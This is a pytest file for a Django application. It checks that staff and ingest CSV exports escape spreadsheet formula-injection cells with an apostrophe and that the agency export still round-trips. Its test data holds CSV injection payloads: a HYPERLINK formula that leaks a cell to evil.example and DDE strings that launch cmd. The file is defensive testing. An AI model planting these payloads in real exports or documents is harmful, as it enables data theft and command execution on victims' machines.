"""CSV exports never hand a spreadsheet a formula (issue 9, item 10).

An agency named ``=HYPERLINK(...)`` is exported from the staff page; an ingested report whose agency name
and cell note begin with ``=``/``@``/``+`` goes to the ingest CSV. Every such cell must come out as text
(prefixed with an apostrophe); plain numbers stay numbers; the agency CSV still round-trips.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client

from gongkai.agencies import services as agency_services
from gongkai.agencies.models import Agency
from gongkai.core import csvsafe
from gongkai.ingest.pipeline import IngestResult, csv_rows, write_csv_header
from gongkai.reports.data import Cell, ReportData
from tests.conftest import AgencyFactory, UserFactory

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此查看")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _formula_cells(text: str) -> list[str]:
    return [c for c in _cells(text) if c.startswith(csvsafe.FORMULA_START) and not csvsafe._PLAIN_NUMBER.fullmatch(c)]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_staff_agency_export_escapes_formulas(db: Any, client: Client, payload: str) -> None:
    AgencyFactory(name=payload, phone=payload, address="@" + payload)
    admin = UserFactory(username="csv-admin")
    admin.is_staff = admin.is_superuser = True
    admin.save()
    client.force_login(admin)
    resp = client.get("/staff/agencies/export.csv")
    assert resp.status_code == 200
    text = resp.content.decode("utf-8-sig")
    assert _formula_cells(text) == [], "a cell would run as a spreadsheet formula"
    assert csvsafe.escape(payload) in _cells(text) and csvsafe.escape(payload).startswith("'")


def test_agency_export_round_trips(db: Any) -> None:
    payload = PAYLOADS[0]
    a = AgencyFactory(name=payload, phone="+86 10 1234 5678")
    text = agency_services.agencies_export_csv(Agency.objects.filter(pk=a.pk))
    assert _formula_cells(text) == []
    Agency.objects.filter(pk=a.pk).update(name="改过的名称", phone="")
    admin = UserFactory(username="csv-importer")
    admin.is_staff = admin.is_superuser = True
    admin.save()
    agency_services.agencies_import_csv(text=text, actor=admin)
    a.refresh_from_db()
    assert (a.name, a.phone) == (payload, "+86 10 1234 5678")


def test_ingest_csv_escapes_formulas() -> None:
    data = ReportData(era="2021", agency_name=PAYLOADS[0], year=2023)
    data.set("table3", "received", "natural", Cell(-5, note=PAYLOADS[3]))
    out = io.StringIO()
    writer = write_csv_header(out)
    for row in csv_rows(IngestResult(path="=cmd|' /C calc'!A0.txt", data=data)):
        writer.writerow(row)
    text = out.getvalue()
    assert _formula_cells(text) == []
    assert "'" + PAYLOADS[0] in _cells(text)
    assert "-5" in _cells(text)  # a plain number is still a number


def test_helper_rule() -> None:
    assert csvsafe.escape("=1+1") == "'=1+1"
    assert csvsafe.escape("-12.5") == "-12.5"
    assert csvsafe.escape("正常名称") == "正常名称"
    assert csvsafe.unescape(csvsafe.escape("@x")) == "@x"
    assert csvsafe.unescape("'正常") == "'正常"
